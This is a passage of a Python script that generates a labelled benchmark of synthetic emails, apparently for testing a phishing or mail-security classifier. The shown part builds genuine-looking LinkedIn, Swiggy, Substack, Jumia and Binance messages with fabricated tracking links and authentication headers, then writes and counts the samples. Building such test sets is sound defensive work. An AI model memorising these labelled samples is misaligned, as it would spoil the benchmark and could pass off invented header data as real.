    ip="40.107.23.118", helo="EUR02-AM0-obe.outbound.protection.outlook.com", sel="selector1")

# --- L21 LinkedIn weekly search notification
_li = lambda p, t: f"https://www.linkedin.com/comm/{p}?lipi=urn%3Ali%3Apage%3Aemail_email_weekly_search_appearances%3B{B64('l21', t, n=22)}&midToken=AQ{B64('l21m', n=26)}&trk=eml-email_weekly_search_appearances-{t}&trkEmail=eml-{t}-null-0-null-null-{H('l21', t, n=8)}"  # noqa: E731
_h = card("LinkedIn", "#0a66c2", "You appeared in 14 searches this week 🔎", [
    "Dana, your profile was found by people from <b>Kaiser Permanente</b>, <b>Sutter Health</b> and 3 other companies.",
    f'<a href="{_li("me/search-appearances/", "cta")}">See all searches</a>', "Searchers' titles: Recruiter, Talent Acquisition Partner, Nurse Manager"],
    ("See who's looking", _li("me/search-appearances/", "btn")),
    f'This email was intended for Dana Whitfield (Clinical Nurse Educator). <a href="{_li("psettings/email-unsubscribe", "unsub")}">Unsubscribe</a><br>&copy; 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.')
add("linkedin-search-appearances", "bulk", "bulk", "dana", "2025-04-14 08:31:17 +0000",
    ("LinkedIn", "notifications-noreply@linkedin.com"), "You appeared in 14 searches this week 🔎",
    kit("l21", _h, "jm"), "Genuine LinkedIn weekly notification from linkedin.com (all pass) with long lipi/midToken/trk tracking parameters on every /comm/ link.",
    ip="108.174.0.199", helo="mailb-cf.linkedin.com", mailfrom=f"s-{H('l21r', n=22)}@bounce.linkedin.com", sel="d2048-202308-01", p="reject",
    extra=["List-Unsubscribe: <" + _li("psettings/email-unsubscribe", "lu") + ">"])

# --- L22 Swiggy promo with Netcore click tracking
_sw = lambda t: f"https://swiggy.in-click.netcorecloud.net/el?aid={H('l22', n=8)}&rid=1144{H('l22', t, n=6)}&pid=58211&cid=915&dest={pct('https://www.swiggy.com/restaurants?utm_source=email&utm_campaign=' + t)}"  # noqa: E731
_h = promo("Swiggy", "#fc8019", "Flat ₹150 off on your next 3 orders, tonight only",
           ("https://media-assets.swiggy.com/email/2025/fri-night-hero.png", _sw("hero")),
           [("https://media-assets.swiggy.com/email/2025/pizza.png", "Pizza Night 🍕", "Flat ₹150 OFF", _sw("pizza")), ("https://media-assets.swiggy.com/email/2025/biryani.png", "Biryani Fest", "Up to 60% OFF", _sw("biryani")),
            ("https://media-assets.swiggy.com/email/2025/instamart.png", "Instamart", "Free delivery", _sw("im")), ("https://media-assets.swiggy.com/email/2025/dineout.png", "Dineout", "Extra 10% OFF", _sw("do"))],
           f'Bundl Technologies Pvt. Ltd., Bengaluru. <a href="{_sw("unsub")}">Unsubscribe</a>')
add("swiggy-friday-promo", "bulk", "bulk", "priya", "2025-05-09 18:30:00 +0530",
    ("Swiggy", "noreply@swiggy.in"), "🍕 Flat ₹150 OFF on your next 3 orders – tonight only! 🎉",
    kit("l22", _h, "sg"), "Genuine Swiggy promotion via Netcore: image-heavy tiles, every link through a netcorecloud.net click redirect with %-encoded destination, emoji subject and &zwnj;-padded preheader.",
    ip="103.229.106.77", helo="mta77.netcoresmtp.com", mailfrom=f"bounce-{H('l22b', n=10)}@bounce.swiggy.in", d="swiggy.in", sel="nc2048", p="quarantine")

# --- L23 Substack newsletter with substack.com/redirect links
def _ss(u: str) -> str:
    import json
    payload = json.dumps({"e": u, "p": 147203318, "s": 2241187, "f": True, "u": 88120417, "iat": 1739840000}, separators=(",", ":"))
    return f"https://substack.com/redirect/2/{b64u(payload)}.{B64('l23', u, n=43)}"


_h = card("The Manila Brief", "#1b4332", "Weekend read: the jeepney modernization deadline, explained", [
    "Good morning! This week: what the latest franchise consolidation deadline means for drivers, why rice prices fell in February, and a great kare-kare recipe.",
    f'Read the <a href="{_ss("https://www.philstar.com/headlines/2025/02/17/jeepney-consolidation")}">full Philstar report</a> or the <a href="{_ss("https://www.officialgazette.gov.ph/2025/02/ltfrb-memo")}">LTFRB memo</a>.',
    "Thanks for reading, and salamat to our 212 paid subscribers! 🙏"],
    ("Read on Substack", _ss("https://manilabrief.substack.com/p/jeepney-deadline-explained")),
    'You\'re on the free list for The Manila Brief. <a href="https://manilabrief.substack.com/action/disable_email?token=' + B64("l23t", n=40) + '">Unsubscribe</a><br>&copy; 2025 Ana Villareal, 548 Market Street PMB 72296, San Francisco, CA 94104')
add("substack-manila-brief", "bulk", "bulk", "jerome", "2025-02-18 07:00:12 +0800",
    ("The Manila Brief", "manilabrief@substack.com"), "Weekend read: the jeepney deadline, explained 🚍",
    kit("l23", _h, "sg"), "Genuine Substack newsletter from substack.com (all pass) where every outbound link is a substack.com/redirect token with a base64 JSON payload.",
    ip="167.89.90.13", helo="o13.email.substack.com", mailfrom=f"bounces+1022-{H('l23b', n=4)}@mg1.substack.com", d="substack.com", sel="s1", p="none",
    extra=["List-Unsubscribe: <https://manilabrief.substack.com/action/disable_email?token=" + B64("l23t", n=40) + ">"])

# --- L24 Jumia Black Friday newsletter
_jm = lambda t: f"https://e.jumia.com.ng/c/{H('l24', t, n=10)}/{B64('l24', t, n=32)}?utm_source=newsletter&utm_medium=email&utm_campaign=BF25_{t}"  # noqa: E731
_h = promo("JUMIA", "#f68b1e", "Black Friday is here: up to 80% off phones, TVs and groceries",
           ("https://ng.jumia.is/cms/0-BF25/newsletter/hero-ng.jpg", _jm("hero")),
           [("https://ng.jumia.is/cms/0-BF25/newsletter/phones.jpg", "Phones &amp; Tablets 📱", "Up to 50% off", _jm("ph")), ("https://ng.jumia.is/cms/0-BF25/newsletter/tv.jpg", "TVs &amp; Audio", "From &#8358;89,999", _jm("tv")),
            ("https://ng.jumia.is/cms/0-BF25/newsletter/groceries.jpg", "Groceries 🛒", "Buy 2 get 1", _jm("gr")), ("https://ng.jumia.is/cms/0-BF25/newsletter/fashion.jpg", "Fashion", "Up to 80% off", _jm("fa"))],
           f'Jumia Nigeria, Jumia Services Limited, Lagos. <a href="{_jm("unsub")}">Unsubscribe</a>')
add("jumia-black-friday", "bulk", "bulk", "funmi", "2025-11-21 08:00:41 +0100",
    ("Jumia Nigeria", "newsletter@info.jumia.com.ng"), "🖤 Black Friday is LIVE! Up to 80% OFF + free delivery 🚚",
    kit("l24", _h, "mc"), "Genuine Jumia Black Friday newsletter: image tiles, e.jumia.com.ng click tracking with UTM tags, emoji subject and hidden preheader, authentication passing.",
    ip="198.2.180.43", helo="mail180-43.suw31.mandrillapp.com", mailfrom=f"bounce-md_30477120.{H('l24b', n=8)}@mandrillapp.com", d="info.jumia.com.ng", sel="mte1", p="quarantine")

# --- L25 Binance withdrawal confirmation (genuine)
_h = card("BINANCE", "#f0b90b", "[Binance] Withdrawal Successful", [
    "You've successfully withdrawn <b>250 USDT</b> from your account.",
    "Withdrawal Address: TJ8nQ2...Vp4kLx<br>Network: TRX (TRC20)<br>Transaction ID: 7c1e9b40f3...a81d",
    "Don't recognise this activity? Please <a href=\"https://www.binance.com/en/my/security/account-freeze\">reset your password</a> and contact customer support immediately.",
    "This is an automated message, please do not reply."], None,
    "Stay connected! &copy; 2025 Binance.com, All Rights Reserved.<br>To stay secure, check that your browser shows https://www.binance.com.")
add("binance-withdrawal-successful", "bulk", "bulk", "chinedu", "2025-12-02 12:40:06 +0000",
    ("Binance", "do-not-reply@ses.binance.com"), "[Binance] Withdrawal Successful - 2025-12-02 12:39:58(UTC)",
    kit("l25", _h, "jm"), "Genuine Binance withdrawal confirmation from ses.binance.com via Amazon SES (all pass), linking only to binance.com security pages.",
    ip="54.240.27.12", helo="a27-12.smtp-out.amazonses.com", mailfrom=f"0100019384{H('l25b', n=20)}@amazonses.com", d="ses.binance.com", sel="2024a", p="reject")


# ============================================================== writer
# (messages above; keep this block last)

def check(data: bytes, name: str) -> None:
    msg = BytesParser(policy=policy.default).parsebytes(data)
    for part in msg.walk():
        assert not part.defects, (name, part.get_content_type(), part.defects)
        for key, value in part.items():
            assert not getattr(value, "defects", None), (name, key, value.defects)
        if not part.is_multipart():
            part.get_content()
    assert msg["From"] and msg["To"] and msg["Subject"] and msg["Date"] and msg["Message-ID"], name


# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {
    "b26-bulk-paypal-payment-receipt": "clean", "b26-bulk-docusign-lease-renewal": "clean",
    "b26-bulk-gtbank-credit-alert": "clean", "b26-bulk-xero-invoice-paid": "clean",
    # an attack that only links to a download (no program attached) goes under phishing, as in set 15
    "b26-phish-recruiter-drive-password-zip": "phishing",
}


def main() -> None:
    slugs = [m["slug"] for m in MSGS]
    assert len(slugs) == len(set(slugs)), "duplicate slug"
    lines, counts = [], {}
    for m in MSGS:
        name = f"b{SET}-{m['kind']}-{m['slug']}"
        rel = f"samples/mail/{REFILED.get(name, m['cat'])}/{name}.eml"
        data = mime.message(headers(m), m["body"])
        check(data, rel)
        path = ROOT / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        lines.append(f"{rel} | {m['cat']} | {m['desc']}")
        counts[m["cat"]] = counts.get(m["cat"], 0) + 1
    (HERE / f"blind{SET}_manifest.txt").write_text("\n".join(lines) + "\n")
    attacks = sum(1 for m in MSGS if m["kind"] == "phish")
    legit = sum(1 for m in MSGS if m["kind"] in ("legit", "bulk"))
    for k in sorted(counts):
        print(f"{k:10s} {counts[k]}")
    print(f"attacks {attacks}, legitimate {legit}, total {len(MSGS)}")
    if FINAL:
        assert attacks == 50 and legit == 25, (attacks, legit)


FINAL = True

if __name__ == "__main__":
    main()
